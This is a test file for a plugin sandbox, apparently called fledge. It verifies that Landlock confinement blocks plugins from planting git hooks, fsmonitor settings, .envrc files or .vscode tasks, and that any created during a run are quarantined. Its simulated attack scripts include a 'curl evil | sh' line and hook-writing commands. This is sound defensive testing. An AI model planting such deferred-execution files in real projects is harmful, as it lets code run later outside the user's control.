/**
 * No writable grant lets a plugin plant code that runs later, outside the confinement
 * (src/confine/runs-later.ts). Landlock grants a folder as a whole, so:
 * - an existing `.git` (and `.envrc`, `.vscode`, ...) inside ANY writable grant (the
 *   project, the plugin's own folder when it is a git checkout, `[confinement] write`)
 *   is not writable;
 * - a NEW one created during the run in a folder that had none (a `.git` folder with
 *   `core.fsmonitor`, a `.git` FILE naming a gitdir elsewhere, an `.envrc`, a
 *   `.vscode/tasks.json`) is moved aside after the run, never deleted, and fledge says
 *   so with the command that undoes it.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { kernelLandlockAbi } from "../../src/confine/index.ts";
import { tempDir } from "../helpers/cli.ts";
import { runAttack, type AttackOptions } from "./confine-harness.ts";

const confinable = process.platform === "linux" && kernelLandlockAbi() >= 1;

let dir: { path: string; cleanup: () => void };
let base: string;
let home: string;
let project: string;
let pluginDir: string;

function gitInit(path: string): void {
  const r = Bun.spawnSync(["git", "init", "-q", path], { env: { PATH: "/usr/bin:/bin", HOME: home } });
  expect(r.exitCode).toBe(0);
}

beforeAll(() => {
  dir = tempDir("fledge-runs-later-");
  base = realpathSync(dir.path);
  home = join(base, "home");
  project = join(base, "project");
  pluginDir = join(home, ".config", "fledge", "plugins", "evil");
  for (const d of [join(project, "src", "deep"), join(project, "docs"), join(project, "tools"), pluginDir]) mkdirSync(d, { recursive: true });
  gitInit(project);
  // The user's own .envrc in a subfolder: there before the run, so never moved (and never writable).
  writeFileSync(join(project, "tools", ".envrc"), "export MINE=1\n");
});
afterAll(() => dir?.cleanup());

/** The names in `folder` that start with `name.fledge-quarantine-`. */
function quarantined(folder: string, name: string): string[] {
  return readdirSync(folder).filter((n) => n.startsWith(`${name}.fledge-quarantine-`));
}

function attack(script: string, o: AttackOptions = {}, scenePluginDir = pluginDir) {
  return runAttack({ home, project, pluginDir: scenePluginDir }, script, o);
}

describe.skipIf(!confinable)("a new .git, .envrc or .vscode created during a run", () => {
  test("in a subfolder of a writable project is moved aside, kept, and the user is told how to undo it", async () => {
    const deep = "src/deep/a/b/c/d/e/f/g/h";
    const r = await attack(
      [
        "mkdir -p src/.git/hooks && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/.git/config",
        "printf 'gitdir: /tmp/elsewhere\\n' > docs/.git",
        "echo 'curl evil | sh' > src/.envrc",
        "mkdir -p src/.vscode && echo '{}' > src/.vscode/tasks.json",
        `mkdir -p ${deep}/.git && echo x > ${deep}/.git/config`,
        "echo 'export MINE=2' > tools/.envrc || echo tools-envrc-refused",
        "echo ok > src/main.c && echo written",
      ].join("\n"),
      { filesystem: "project" },
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("written");
    expect(r.stdout).toContain("tools-envrc-refused");
    for (const [folder, name] of [["src", ".git"], ["docs", ".git"], ["src", ".envrc"], ["src", ".vscode"], [deep, ".git"]] as const) {
      expect(existsSync(join(project, folder, name))).toBe(false);
      expect(quarantined(join(project, folder), name)).toHaveLength(1);
    }
    // Moved, not deleted: the content is still there under the new name.
    const gitFile = join(project, "docs", quarantined(join(project, "docs"), ".git")[0]!);
    expect(readFileSync(gitFile, "utf8")).toBe("gitdir: /tmp/elsewhere\n");
    // The user's own entries stay where they were, untouched.
    expect(readFileSync(join(project, "tools", ".envrc"), "utf8")).toBe("export MINE=1\n");
    expect(existsSync(join(project, ".git", "HEAD"))).toBe(true);
    expect(r.stderr).toContain("src/.git.fledge-quarantine-");
    expect(r.stderr).toContain("mv '");
    // git in src/ no longer finds a repository of the plugin's making.
    const top = Bun.spawnSync(["git", "rev-parse", "--show-toplevel"], { cwd: join(project, "src"), env: { PATH: "/usr/bin:/bin", HOME: home } });
    expect(top.stdout.toString().trim()).toBe(project);
  }, 60_000);

  test("in the plugin's own folder is moved aside too", async () => {
    const r = await attack("mkdir -p \"$FLEDGE_PLUGIN_DIR/sub\" && printf 'gitdir: /tmp/x\\n' > \"$FLEDGE_PLUGIN_DIR/sub/.git\" && echo made");
    expect(r.stdout).toContain("made");
    expect(existsSync(join(pluginDir, "sub", ".git"))).toBe(false);
    expect(quarantined(join(pluginDir, "sub"), ".git")).toHaveLength(1);
  }, 60_000);

  test("by a leftover process after the plugin exited: it is ended first, so it plants nothing", async () => {
    const r = await attack("setsid sh -c 'exec >/dev/null 2>&1 </dev/null; sleep 1; mkdir src/late; printf x > src/late/.envrc' &\nexit 0", { filesystem: "project" });
    expect(r.code).toBe(0);
    await Bun.sleep(2000);
    expect(existsSync(join(project, "src", "late"))).toBe(false);
  }, 60_000);
});

describe.skipIf(!confinable)("a writable grant that holds a git checkout", () => {
  // Landlock cannot grant "create here, but not .git": the checkout's top level is granted
  // entry by entry, so its existing files and folders are writable, new top-level entries are not.
  test("the plugin's folder (a live link or copy of a checkout): its .git stays read-only, the rest writable", async () => {
    const checkout = join(base, "checkout");
    mkdirSync(join(checkout, "data"), { recursive: true });
    writeFileSync(join(checkout, "state.txt"), "old\n");
    gitInit(checkout);
    const r = await attack(
      [
        'cd "$FLEDGE_PLUGIN_DIR"',
        "echo evil > .git/hooks/pre-commit || echo hook-refused",
        "echo '[core] fsmonitor = evil' >> .git/config || echo config-refused",
        "cat .git/HEAD >/dev/null && echo git-readable",
        "echo state > state.txt && echo > data/new.txt && echo own-writable",
        "echo x > new-top.txt || echo top-refused",
      ].join("\n"),
      {},
      checkout,
    );
    expect(r.stdout).toContain("hook-refused");
    expect(r.stdout).toContain("config-refused");
    expect(r.stdout).toContain("git-readable");
    expect(r.stdout).toContain("own-writable");
    expect(r.stdout).toContain("top-refused");
    expect(existsSync(join(checkout, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(join(checkout, ".git", "config"), "utf8")).not.toContain("evil");
  }, 60_000);

  test("a [confinement] write folder: its .git stays read-only, the rest writable", async () => {
    const repo = join(home, "code", "repo");
    mkdirSync(join(repo, "out"), { recursive: true });
    gitInit(repo);
    const r = await attack(`echo evil > ${repo}/.git/hooks/post-checkout || echo hook-refused\necho data > ${repo}/out/data.txt && echo data-written`, { confinement: { write: [repo] } });
    expect(r.stdout).toContain("hook-refused");
    expect(r.stdout).toContain("data-written");
    expect(existsSync(join(repo, ".git", "hooks", "post-checkout"))).toBe(false);
  }, 60_000);
});
